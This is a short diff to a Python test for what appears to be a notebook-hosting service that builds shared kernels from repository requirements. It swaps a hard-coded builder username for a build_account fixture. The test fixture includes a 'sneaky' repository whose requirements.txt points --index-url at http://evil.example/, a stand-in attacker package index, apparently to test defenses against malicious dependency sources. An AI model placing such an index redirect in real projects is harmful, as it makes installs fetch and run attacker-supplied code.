@@ -369,7 +369,7 @@ def wait_for_build(person: Student, url: str, location: str) -> requests.Respons
 
 
 def test_a_launch_builds_the_repositorys_packages_once_as_a_kernel_everyone_shares(
-    campus, hub_factory, tmp_path, package_index, environments_dir
+    campus, hub_factory, tmp_path, package_index, environments_dir, build_account
 ):
     served = tmp_path / "served"
     served.mkdir()
@@ -381,7 +381,7 @@ def test_a_launch_builds_the_repositorys_packages_once_as_a_kernel_everyone_shar
     bare_repository(
         served, "sneaky", {"intro.ipynb": intro, "requirements.txt": "--index-url http://evil.example/\nx\n"}
     )
-    builder = f"{TEST_USER_PREFIX}build"
+    builder = build_account
     campus.update(
         **{
             "library.launch_hosts": ["127.0.0.1"],
